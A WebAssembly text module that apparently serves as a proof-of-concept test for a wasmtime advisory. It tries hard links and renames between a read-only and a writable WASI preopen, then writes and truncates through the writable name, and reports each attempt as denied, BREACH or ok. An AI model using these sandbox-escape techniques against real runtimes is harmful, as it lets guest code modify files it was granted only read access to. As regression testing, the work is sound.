;; Attack (wasmtime GHSA-4ch3-9j33-3pmj): two preopens, /ro read-only and /rw writable.
;; path_link(/ro data.txt -> /rw alias.txt) gives the read-only inode a name in the
;; writable directory; opening alias.txt for writing (or O_TRUNC) would then modify the
;; read-only file. Also path_rename of /ro/data.txt into /rw (then truncate it), and
;; /rw/plant.txt renamed / linked into /ro (creating or replacing entries there).
;; The guest finds the two preopens by name with fd_prestat_dir_name.
;; Positive controls: read /ro/data.txt; O_CREAT /rw/ok.txt.
(module
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_prestat_get" (func $fd_prestat_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_prestat_dir_name" (func $fd_prestat_dir_name (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_link" (func $path_link (param i32 i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_rename" (func $path_rename (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "proc_exit" (func $proc_exit (param i32)))

  (memory (export "memory") 1)

  ;; ---------------------------------------------------------------- strings
  ;; Each string: a global holding its address, where a 4-byte length precedes the bytes.
  ;; Names follow the text ("/" and "." become "_", ".." becomes "dd"); $op_* are labels.
  (global $s_nl i32 (i32.const 1024)) (data (i32.const 1024) "\01\00\00\00\0a")
  (global $s_denied i32 (i32.const 1032)) (data (i32.const 1032) "\07\00\00\00denied ")
  (global $s_breach i32 (i32.const 1044)) (data (i32.const 1044) "\07\00\00\00BREACH ")
  (global $s_ok i32 (i32.const 1056)) (data (i32.const 1056) "\03\00\00\00ok ")
  (global $s_open_quote i32 (i32.const 1064)) (data (i32.const 1064) "\02\00\00\00 \22")
  (global $s_close_quote i32 (i32.const 1072)) (data (i32.const 1072) "\01\00\00\00\22")
  (global $s_errno i32 (i32.const 1080)) (data (i32.const 1080) "\08\00\00\00 (errno ")
  (global $s_paren i32 (i32.const 1092)) (data (i32.const 1092) "\01\00\00\00)")
  (global $s_colon i32 (i32.const 1100)) (data (i32.const 1100) "\02\00\00\00: ")
  (global $s_marker i32 (i32.const 1108)) (data (i32.const 1108) "\11\00\00\00GUEST-WROTE-THIS\0a")
  (global $s_op_open i32 (i32.const 1132)) (data (i32.const 1132) "\04\00\00\00open")
  (global $s_op_open_follow i32 (i32.const 1140)) (data (i32.const 1140) "\0b\00\00\00open+follow")
  (global $s_op_opendir i32 (i32.const 1156)) (data (i32.const 1156) "\07\00\00\00opendir")
  (global $s_op_fd_write i32 (i32.const 1168)) (data (i32.const 1168) "\08\00\00\00fd_write")
  (global $s_done i32 (i32.const 1180)) (data (i32.const 1180) "\05\00\00\00done\0a")
  (global $s_preopen i32 (i32.const 1192)) (data (i32.const 1192) "\08\00\00\00preopen ")
  (global $s_is_fd i32 (i32.const 1204)) (data (i32.const 1204) "\06\00\00\00 = fd ")
  (global $p_ro i32 (i32.const 1216)) (data (i32.const 1216) "\03\00\00\00/ro")
  (global $p_rw i32 (i32.const 1224)) (data (i32.const 1224) "\03\00\00\00/rw")
  (global $p_data_txt i32 (i32.const 1232)) (data (i32.const 1232) "\08\00\00\00data.txt")
  (global $p_open_O_CREAT i32 (i32.const 1244)) (data (i32.const 1244) "\0d\00\00\00open(O_CREAT)")
  (global $p_ok_txt i32 (i32.const 1264)) (data (i32.const 1264) "\06\00\00\00ok.txt")
  (global $p_alias_txt i32 (i32.const 1276)) (data (i32.const 1276) "\09\00\00\00alias.txt")
  (global $op_path_link__ro_data_txt i32 (i32.const 1292)) (data (i32.const 1292) "\19\00\00\00path_link /ro/data.txt ->")
  (global $p_rw_alias_txt i32 (i32.const 1324)) (data (i32.const 1324) "\0d\00\00\00/rw/alias.txt")
  (global $p_open_for_write i32 (i32.const 1344)) (data (i32.const 1344) "\0e\00\00\00open-for-write")
  (global $p_open_O_TRUNC i32 (i32.const 1364)) (data (i32.const 1364) "\0d\00\00\00open(O_TRUNC)")
  (global $p_moved_txt i32 (i32.const 1384)) (data (i32.const 1384) "\09\00\00\00moved.txt")
  (global $op_path_rename__ro_data_txt i32 (i32.const 1400)) (data (i32.const 1400) "\1b\00\00\00path_rename /ro/data.txt ->")
  (global $p_rw_moved_txt i32 (i32.const 1432)) (data (i32.const 1432) "\0d\00\00\00/rw/moved.txt")
  (global $p_plant_txt i32 (i32.const 1452)) (data (i32.const 1452) "\09\00\00\00plant.txt")
  (global $op_path_rename__rw_plant_txt i32 (i32.const 1468)) (data (i32.const 1468) "\1c\00\00\00path_rename /rw/plant.txt ->")
  (global $p_ro_plant_txt i32 (i32.const 1500)) (data (i32.const 1500) "\0d\00\00\00/ro/plant.txt")
  (global $p_ro_data_txt i32 (i32.const 1520)) (data (i32.const 1520) "\0c\00\00\00/ro/data.txt")
  (global $p_plant_link_txt i32 (i32.const 1536)) (data (i32.const 1536) "\0e\00\00\00plant-link.txt")
  (global $op_path_link__rw_plant_txt i32 (i32.const 1556)) (data (i32.const 1556) "\1a\00\00\00path_link /rw/plant.txt ->")
  (global $p_ro_plant_link_txt i32 (i32.const 1588)) (data (i32.const 1588) "\12\00\00\00/ro/plant-link.txt")

  ;; ---------------------------------------------------------------- helpers
  ;; Memory map: 0..8 iovec, 8 nread/nwritten, 12 fd returned by path_open,
  ;; 16 bufused, 32..64 decimal digits, 128..192 filestat/fdstat scratch,
  ;; 512..1024 readlink buffer, 1024.. strings, 8192..12288 read buffer.
  ;; A "string" is a 4-byte little-endian length followed by its bytes.

  ;; Rights. (i64.const -1) is not used: bits above 29 are no rights, and some runtimes
  ;; (wasmtime) trap converting them.
  ;; All 30 rights preview1 defines (bits 0..29): used for opening files to write.
  (global $all_rights i64 (i64.const 0x3fffffff))
  ;; Read-only file rights (FD_READ|FD_SEEK|FD_TELL|FD_FILESTAT_GET): used for reading,
  ;; so that a read never fails just because the host file is not writable.
  (global $read_rights i64 (i64.const 0x200026))
  ;; Directory rights: all except FD_DATASYNC, FD_WRITE, FD_ALLOCATE, FD_FILESTAT_SET_SIZE
  ;; (asking a directory for write rights gets EISDIR on some runtimes).
  (global $dir_rights i64 (i64.const 0x3fbffebe))
  ;; Rights requested by $try_write (cases about rights change it).
  (global $open_rights (mut i64) (i64.const 0x3fffffff))

  ;; Write len bytes at ptr to stdout (fd 1).
  (func $print (param $ptr i32) (param $len i32)
    (i32.store (i32.const 0) (local.get $ptr))
    (i32.store (i32.const 4) (local.get $len))
    (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8))))

  ;; Address of the bytes, and length, of a length-prefixed string.
  (func $str (param $s i32) (result i32) (i32.add (local.get $s) (i32.const 4)))
  (func $len (param $s i32) (result i32) (i32.load (local.get $s)))

  ;; Print a length-prefixed string.
  (func $print_s (param $s i32)
    (call $print (i32.add (local.get $s) (i32.const 4)) (i32.load (local.get $s))))

  ;; Print an unsigned 32-bit number in decimal.
  (func $print_num (param $n i32)
    (local $p i32)
    (local.set $p (i32.const 64))
    (loop $digit
      (local.set $p (i32.sub (local.get $p) (i32.const 1)))
      (i32.store8 (local.get $p)
        (i32.add (i32.const 48) (i32.rem_u (local.get $n) (i32.const 10))))
      (local.set $n (i32.div_u (local.get $n) (i32.const 10)))
      (br_if $digit (local.get $n)))
    (call $print (local.get $p) (i32.sub (i32.const 64) (local.get $p))))

  ;; Copy what can be read from fd to stdout (at most 16 reads of 4 KiB).
  (func $dump_fd (param $fd i32)
    (local $i i32)
    (block $done
      (loop $more
        (i32.store (i32.const 0) (i32.const 8192))
        (i32.store (i32.const 4) (i32.const 4096))
        (br_if $done (call $fd_read (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)))
        (br_if $done (i32.eqz (i32.load (i32.const 8))))
        (call $print (i32.const 8192) (i32.load (i32.const 8)))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br_if $more (i32.lt_u (local.get $i) (i32.const 16))))))

  ;; Print the outcome of operation $op on path (ptr, len), without a newline:
  ;;   denied <op> "<path>" (errno N)   the runtime refused
  ;;   BREACH <op> "<path>"             it succeeded but must not have
  ;;   ok <op> "<path>"                 it succeeded and that is allowed
  (func $outcome (param $op i32) (param $ptr i32) (param $len i32) (param $errno i32) (param $must_fail i32)
    (if (local.get $errno)
      (then (call $print_s (global.get $s_denied)))
      (else (if (local.get $must_fail)
        (then (call $print_s (global.get $s_breach)))
        (else (call $print_s (global.get $s_ok))))))
    (call $print_s (local.get $op))
    (call $print_s (global.get $s_open_quote))
    (call $print (local.get $ptr) (local.get $len))
    (call $print_s (global.get $s_close_quote))
    (if (local.get $errno) (then
      (call $print_s (global.get $s_errno))
      (call $print_num (local.get $errno))
      (call $print_s (global.get $s_paren)))))

  ;; One full report line for operation $op on string $path.
  (func $report (param $op i32) (param $path i32) (param $errno i32) (param $must_fail i32)
    (call $outcome (local.get $op) (i32.add (local.get $path) (i32.const 4)) (i32.load (local.get $path))
      (local.get $errno) (local.get $must_fail))
    (call $print_s (global.get $s_nl)))

  ;; Open path (ptr, len) under dirfd for reading (read-only rights); on success print its bytes
  ;; after the outcome ("ok open "x": <bytes>"). Returns the errno.
  (func $try_read_raw (param $dirfd i32) (param $lookup i32) (param $ptr i32) (param $len i32) (param $must_fail i32) (result i32)
    (local $err i32) (local $fd i32)
    (local.set $err (call $path_open (local.get $dirfd) (local.get $lookup) (local.get $ptr) (local.get $len)
      (i32.const 0) (global.get $read_rights) (i64.const 0) (i32.const 0) (i32.const 12)))
    (local.set $fd (i32.load (i32.const 12)))
    (call $outcome (select (global.get $s_op_open_follow) (global.get $s_op_open) (local.get $lookup))
      (local.get $ptr) (local.get $len) (local.get $err) (local.get $must_fail))
    (if (i32.eqz (local.get $err)) (then
      (call $print_s (global.get $s_colon))
      (call $dump_fd (local.get $fd))
      (drop (call $fd_close (local.get $fd)))))
    (call $print_s (global.get $s_nl))
    (local.get $err))

  ;; $try_read_raw for a length-prefixed string.
  (func $try_read (param $dirfd i32) (param $lookup i32) (param $path i32) (param $must_fail i32) (result i32)
    (call $try_read_raw (local.get $dirfd) (local.get $lookup)
      (i32.add (local.get $path) (i32.const 4)) (i32.load (local.get $path)) (local.get $must_fail)))

  ;; path_open with oflags (O_CREAT=1, O_DIRECTORY=2, O_EXCL=4, O_TRUNC=8); on
  ;; success write a marker line into the file, so a file created or truncated
  ;; outside the sandbox also changes content. Returns the errno.
  (func $try_write (param $op i32) (param $dirfd i32) (param $lookup i32) (param $path i32) (param $oflags i32) (param $must_fail i32) (result i32)
    (local $err i32) (local $fd i32)
    (local.set $err (call $path_open (local.get $dirfd) (local.get $lookup)
      (i32.add (local.get $path) (i32.const 4)) (i32.load (local.get $path))
      (local.get $oflags) (global.get $open_rights) (global.get $open_rights) (i32.const 0) (i32.const 12)))
    (local.set $fd (i32.load (i32.const 12)))
    (call $report (local.get $op) (local.get $path) (local.get $err) (local.get $must_fail))
    (if (i32.eqz (local.get $err)) (then
      (i32.store (i32.const 0) (i32.add (global.get $s_marker) (i32.const 4)))
      (i32.store (i32.const 4) (i32.load (global.get $s_marker)))
      (call $report (global.get $s_op_fd_write) (local.get $path)
        (call $fd_write (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)) (local.get $must_fail))
      (drop (call $fd_close (local.get $fd)))))
    (local.get $err))

  ;; Open a directory (O_DIRECTORY); report it; return its fd or -1.
  (func $open_dir (param $dirfd i32) (param $lookup i32) (param $path i32) (param $must_fail i32) (result i32)
    (local $err i32)
    (local.set $err (call $path_open (local.get $dirfd) (local.get $lookup)
      (i32.add (local.get $path) (i32.const 4)) (i32.load (local.get $path))
      (i32.const 2) (global.get $dir_rights) (global.get $all_rights) (i32.const 0) (i32.const 12)))
    (call $report (global.get $s_op_opendir) (local.get $path) (local.get $err) (local.get $must_fail))
    (if (result i32) (local.get $err) (then (i32.const -1)) (else (i32.load (i32.const 12)))))

  ;; Find the preopen whose name (fd_prestat_dir_name) equals string $name; fds 3..31.
  ;; Returns the fd or -1. Prints "preopen <name> = fd N".
  (func $find_preopen (param $name i32) (result i32)
    (local $fd i32) (local $len i32)
    (local.set $fd (i32.const 3))
    (loop $each
      (if (i32.eqz (call $fd_prestat_get (local.get $fd) (i32.const 128))) (then
        (local.set $len (i32.load offset=4 (i32.const 128)))
        (if (i32.and (i32.eq (local.get $len) (i32.load (local.get $name)))
                     (i32.le_u (local.get $len) (i32.const 256))) (then
          (if (i32.eqz (call $fd_prestat_dir_name (local.get $fd) (i32.const 512) (local.get $len))) (then
            (if (i32.eqz (call $memcmp (i32.const 512) (i32.add (local.get $name) (i32.const 4)) (local.get $len))) (then
              (call $print_s (global.get $s_preopen))
              (call $print_s (local.get $name))
              (call $print_s (global.get $s_is_fd))
              (call $print_num (local.get $fd))
              (call $print_s (global.get $s_nl))
              (return (local.get $fd))))))))))
      (local.set $fd (i32.add (local.get $fd) (i32.const 1)))
      (br_if $each (i32.lt_u (local.get $fd) (i32.const 32))))
    (i32.const -1))

  ;; 0 if the n bytes at a and b are equal.
  (func $memcmp (param $a i32) (param $b i32) (param $n i32) (result i32)
    (block $diff (loop $byte
      (if (i32.eqz (local.get $n)) (then (return (i32.const 0))))
      (br_if $diff (i32.ne (i32.load8_u (local.get $a)) (i32.load8_u (local.get $b))))
      (local.set $a (i32.add (local.get $a) (i32.const 1)))
      (local.set $b (i32.add (local.get $b) (i32.const 1)))
      (local.set $n (i32.sub (local.get $n) (i32.const 1)))
      (br $byte)))
    (i32.const 1))

  ;; ---------------------------------------------------------------- the attack
  (func (export "_start")
    (local $ro i32) (local $rw i32)
    (local.set $ro (call $find_preopen (global.get $p_ro)))
    (local.set $rw (call $find_preopen (global.get $p_rw)))
    ;; Positive controls: read from /ro, create in /rw.
    (drop (call $try_read (local.get $ro) (i32.const 0) (global.get $p_data_txt) (i32.const 0)))
    (drop (call $try_write (global.get $p_open_O_CREAT) (local.get $rw) (i32.const 0) (global.get $p_ok_txt) (i32.const 1) (i32.const 0)))
    ;; GHSA-4ch3-9j33-3pmj: hard link the read-only file into the writable preopen, then
    ;; write through the writable name.
    (call $report (global.get $op_path_link__ro_data_txt) (global.get $p_rw_alias_txt)  ;; path_link /ro/data.txt -> "/rw/alias.txt"
      (call $path_link (local.get $ro) (i32.const 0) (call $str (global.get $p_data_txt)) (call $len (global.get $p_data_txt)) (local.get $rw) (call $str (global.get $p_alias_txt)) (call $len (global.get $p_alias_txt)))
      (i32.const 1))
    (drop (call $try_write (global.get $p_open_for_write) (local.get $rw) (i32.const 0) (global.get $p_alias_txt) (i32.const 0) (i32.const 1)))
    (drop (call $try_write (global.get $p_open_O_TRUNC) (local.get $rw) (i32.const 0) (global.get $p_alias_txt) (i32.const 8) (i32.const 1)))
    ;; Rename across the boundary, both ways.
    (call $report (global.get $op_path_rename__ro_data_txt) (global.get $p_rw_moved_txt)  ;; path_rename /ro/data.txt -> "/rw/moved.txt"
      (call $path_rename (local.get $ro) (call $str (global.get $p_data_txt)) (call $len (global.get $p_data_txt)) (local.get $rw) (call $str (global.get $p_moved_txt)) (call $len (global.get $p_moved_txt)))
      (i32.const 1))
    (drop (call $try_write (global.get $p_open_O_TRUNC) (local.get $rw) (i32.const 0) (global.get $p_moved_txt) (i32.const 8) (i32.const 1)))
    (call $report (global.get $op_path_rename__rw_plant_txt) (global.get $p_ro_plant_txt)  ;; path_rename /rw/plant.txt -> "/ro/plant.txt"
      (call $path_rename (local.get $rw) (call $str (global.get $p_plant_txt)) (call $len (global.get $p_plant_txt)) (local.get $ro) (call $str (global.get $p_plant_txt)) (call $len (global.get $p_plant_txt)))
      (i32.const 1))
    (call $report (global.get $op_path_rename__rw_plant_txt) (global.get $p_ro_data_txt)  ;; path_rename /rw/plant.txt -> "/ro/data.txt"
      (call $path_rename (local.get $rw) (call $str (global.get $p_plant_txt)) (call $len (global.get $p_plant_txt)) (local.get $ro) (call $str (global.get $p_data_txt)) (call $len (global.get $p_data_txt)))
      (i32.const 1))
    (call $report (global.get $op_path_link__rw_plant_txt) (global.get $p_ro_plant_link_txt)  ;; path_link /rw/plant.txt -> "/ro/plant-link.txt"
      (call $path_link (local.get $rw) (i32.const 0) (call $str (global.get $p_plant_txt)) (call $len (global.get $p_plant_txt)) (local.get $ro) (call $str (global.get $p_plant_link_txt)) (call $len (global.get $p_plant_link_txt)))
      (i32.const 1))
    (call $print_s (global.get $s_done))
    (call $proc_exit (i32.const 0))))
